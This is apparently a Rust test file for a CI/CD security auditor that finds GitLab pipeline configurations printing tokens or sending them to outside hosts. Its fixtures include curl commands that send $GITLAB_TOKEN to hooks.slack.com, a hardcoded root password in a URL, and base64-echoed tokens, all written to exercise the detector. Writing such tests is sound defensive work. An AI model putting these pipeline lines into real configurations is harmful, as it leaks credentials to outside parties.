use crate::Context;
use crate::audit::audit;
use crate::input::Input;
use crate::report::Report;
use crate::time::Date;

fn report_of(files: &[(&str, &str)]) -> Report {
    let inputs = files.iter().map(|(name, text)| Input::new(*name, crate::fake::expand(text))).collect();
    audit(inputs, &Context::new(Date::parse("2026-11-20").unwrap()))
}

/// `rule file:line:column` of each finding, in the order of the report.
fn found(report: &Report) -> Vec<String> {
    let place = |finding: &crate::report::Finding| {
        let place = finding.place.unwrap();
        format!("{} {}:{}:{}", finding.rule.id, report.inputs[finding.input].name, place.line, place.column)
    };
    let mut found: Vec<_> = report.findings.iter().map(place).collect();
    found.sort();
    found
}

fn spots(report: &Report) -> Vec<String> {
    let one = |spot: &crate::report::BlindSpot| {
        format!("{}:{}: {}", report.inputs[spot.input].name, spot.line.unwrap_or_default(), spot.message)
    };
    report.blind_spots.iter().map(one).collect()
}

const MAIN: &str = "\
include:
  - local: /ci/base.yml
  - /ci/vars.yml
build:
  extends: .upload
  variables:
    TARGET: https://paste.example.org/x
  script:
    - make
    - !reference [.send, script]
";
const BASE: &str = "\
.upload:
  after_script:
    - echo $HEADER | base64
.send:
  script:
    - |
      curl --header \"PRIVATE-TOKEN: $DEPLOY\" https://hooks.slack.com/x
";
const VARS: &str = "variables:\n  HEADER: \"PRIVATE-TOKEN: $GITLAB_TOKEN\"\n  DEPLOY: $GITLAB_TOKEN\n";

#[test]
fn what_stands_in_an_included_file_is_judged_with_what_the_others_say_and_told_where_it_stands() {
    // Only together do they show that `$HEADER` and `$DEPLOY` carry a token.
    let alone = report_of(&[("p/.gitlab-ci.yml", MAIN)]);
    assert_eq!(found(&alone), [""; 0]);
    let report = report_of(&[("p/.gitlab-ci.yml", MAIN), ("p/ci/base.yml", BASE), ("p/ci/vars.yml", VARS)]);
    assert_eq!(found(&report), ["token-printed p/ci/base.yml:3:12", "token-sent-to-foreign-host p/ci/base.yml:7:21",]);
    assert_eq!(spots(&report), [""; 0]);
    assert_eq!(report.inputs[0].format.as_str(), "GitLab CI/CD configuration, with 2 included files");
    // A file of variables alone does not look like configuration: being included it is.
    assert_eq!(report.inputs[2].kind, crate::input::Kind::CiConfig);
    for finding in &report.findings {
        let excerpt = finding.excerpt.as_ref().unwrap();
        assert_eq!(excerpt.line, finding.place.unwrap().line);
        assert!(excerpt.text.contains("HEADER") || excerpt.text.contains("curl"), "{}", excerpt.text);
        let identity = finding.identity();
        assert!(identity.contains("p/ci/base.yml"), "{identity}");
    }
}

#[test]
fn the_order_of_the_inputs_changes_nothing() {
    let mut files = [("p/.gitlab-ci.yml", MAIN), ("p/ci/base.yml", BASE), ("p/ci/vars.yml", VARS)];
    let first = found(&report_of(&files));
    for _ in 0..2 {
        files.rotate_left(1);
        assert_eq!(found(&report_of(&files)), first);
    }
}

#[test]
fn what_is_not_there_is_said() {
    let text = "\
include:
  - local: ci/gone.yml
  - project: acme/ci
    file: /a.yml
  - template: Jobs/SAST.gitlab-ci.yml
  - remote: https://example.com/a.yml
  - component: $CI_SERVER_FQDN/a/b/c@1.0.0
a:
  script:
    - !reference [.x, script]
";
    let said = spots(&report_of(&[("p/.gitlab-ci.yml", text)]));
    assert_eq!(said.len(), 3, "{said:#?}");
    assert!(
        said.iter().any(|said| said.starts_with("p/.gitlab-ci.yml:2: 1 included file is not among")
            && said.contains("`ci/gone.yml`"))
    );
    assert!(said.iter().any(|said| {
        said.starts_with("p/.gitlab-ci.yml:3: 4 includes come from elsewhere, the first from another project")
    }));
    assert!(said.iter().any(|said| said.starts_with("p/.gitlab-ci.yml:10: 1 part of a script")));
    // A reference that an included file answers is not missing.
    let said = spots(&report_of(&[("p/.gitlab-ci.yml", text), ("p/ci/gone.yml", ".x: {script: [make]}\n")]));
    assert_eq!(said.len(), 1, "{said:#?}");
}

#[test]
fn circles_and_patterns_end() {
    let report = report_of(&[
        ("p/.gitlab-ci.yml", "include: /ci/**/*.yml\nvariables: {H: $GITLAB_TOKEN}\na: {script: [make]}\n"),
        ("p/ci/a.yml", "include: /ci/deep/b.yml\n.x: {script: [make]}\n"),
        ("p/ci/deep/b.yml", "include: /ci/a.yml\nb:\n  script:\n    - echo $H | base64\n"),
    ]);
    assert_eq!(found(&report), ["token-printed p/ci/deep/b.yml:4:12"]);
    assert!(spots(&report).iter().any(|said| said.contains("includes itself")), "{:?}", spots(&report));
    let alone = report_of(&[
        ("a.yml", "include: b.yml\na: {script: [\"echo $H | base64\"]}\n"),
        ("b.yml", "include: a.yml\nvariables: {H: $GITLAB_TOKEN}\nb: {script: [make]}\n"),
    ]);
    assert_eq!(found(&alone), ["token-printed a.yml:2:20"]);
}

#[test]
fn a_file_that_two_pipelines_include_is_told_of_once() {
    let shared = ".s:\n  script:\n    - echo $GITLAB_TOKEN | base64\n";
    let report = report_of(&[
        ("one.yml", "include: shared.yml\na: {extends: .s}\n"),
        ("two.yml", "include: shared.yml\nb: {extends: .s}\n"),
        ("shared.yml", shared),
    ]);
    assert_eq!(found(&report), ["token-printed shared.yml:3:12"]);
}

#[test]
fn inputs_come_from_who_includes() {
    let template = "\
spec:
  inputs:
    job: {default: build}
    value: {default: none}
    lines: {type: array, default: [make]}
    short: {default: ''}
---
\"$[[ inputs.job ]]-x\":
  script: $[[ inputs.lines ]]
  after_script:
    - echo \"$[[ inputs.value ]]\" | base64
    - curl https://hooks.slack.com/$[[ inputs.short | expand_vars | truncate(0,13) ]]
";
    let main = "\
include:
  - local: t.yml
    inputs:
      job: deploy
      value: $GITLAB_TOKEN
      lines: [\"echo $DEPLOY_TOKEN | base64\"]
      short: $GITLAB_TOKEN/and/more
  - local: t.yml
    inputs: {job: other}
";
    let report = report_of(&[("main.yml", main), ("t.yml", template)]);
    assert_eq!(
        found(&report),
        ["token-printed main.yml:6:21", "token-printed t.yml:11:12", "token-sent-to-foreign-host t.yml:12:12",]
    );
    let printed = report.findings.iter().find(|finding| finding.place.is_some_and(|place| place.line == 11)).unwrap();
    assert!(format!("{:?}", printed.about).contains("deploy-x"), "{:?}", printed.about);
}

#[test]
fn a_job_that_another_file_stands_over_is_judged_as_it_runs() {
    let base = "\
variables: {WHERE: https://gitlab.example.com}
deploy:
  image: base
  variables: {A: $GITLAB_TOKEN, B: none}
  script:
    - echo $A | base64
  artifacts:
    paths: [.npmrc]
";
    let main = "\
include: base.yml
deploy:
  variables: {B: $GITLAB_TOKEN}
  script:
    - make
    - echo $B | base64
  artifacts:
    paths: [out]
";
    let report = report_of(&[("main.yml", main), ("base.yml", base)]);
    // The script below does not run here, but may where others include the file. The artifacts are replaced.
    assert_eq!(found(&report), ["token-printed base.yml:6:12", "token-printed main.yml:6:12"]);
    let extended = report_of(&[("main.yml", "include: base.yml\ndeploy: {image: other}\n"), ("base.yml", base)]);
    assert_eq!(found(&extended), ["secret-file-in-artifacts base.yml:8:13", "token-printed base.yml:6:12"]);
}

#[test]
fn a_comment_accepts_in_the_file_where_it_stands() {
    let base =
        ".s:\n  script:\n    # leastwise: ignore[token-printed] until=2027-01-31 known\n    - echo $H | base64\n";
    let main = "include: base.yml\nvariables: {H: $GITLAB_TOKEN}\na: {extends: .s}\n";
    let report = report_of(&[("main.yml", main), ("base.yml", base)]);
    assert_eq!(found(&report), [""; 0]);
    assert_eq!(report.accepted, 1);
    assert_eq!(report.accepted_findings[0].finding.input, 1);
}

#[test]
fn no_credential_of_one_file_shows_in_the_line_of_another() {
    let main = "include: base.yml\nvariables: {H: {{personal_access_token}}}\na: {extends: .s, after_script: [\"curl -k -u root:{{personal_access_token}} https://gitlab.example.com\"]}\n";
    let base = ".s:\n  script:\n    - curl -k -u root:hunter2hunter2 -H \"PRIVATE-TOKEN: $GITLAB_TOKEN\" https://$H@x.example\n";
    let report = report_of(&[("main.yml", main), ("base.yml", base)]);
    let shown = crate::report::text::render(&report, 200);
    assert!(shown.contains("curl -k"), "{shown}");
    assert!(!shown.contains("hunter2"), "{shown}");
    let token = crate::fake::expand("{{personal_access_token}}");
    assert!(!shown.contains(token.get(6..14).unwrap()), "{shown}");
}

#[test]
fn many_pipelines_over_the_same_files_stay_linear() {
    let work = |count: usize| {
        let mut files: Vec<(String, String)> = (0..count)
            .map(|number| (format!("main{number}.yml"), "include: [/s/*.yml]\na: {extends: .s0}\n".to_string()))
            .collect();
        files.extend((0..count).map(|number| (format!("s/{number}.yml"), format!(".s{number}: {{script: [make]}}\n"))));
        let files: Vec<(&str, &str)> = files.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
        let report = report_of(&files);
        report.inputs.iter().filter(|input| input.format.as_str().contains("included")).count()
    };
    // Few are all joined; of many only as many as their text allows.
    assert_eq!(work(8), 8);
    let many = work(400);
    assert!((1..400).contains(&many), "{many}");
}
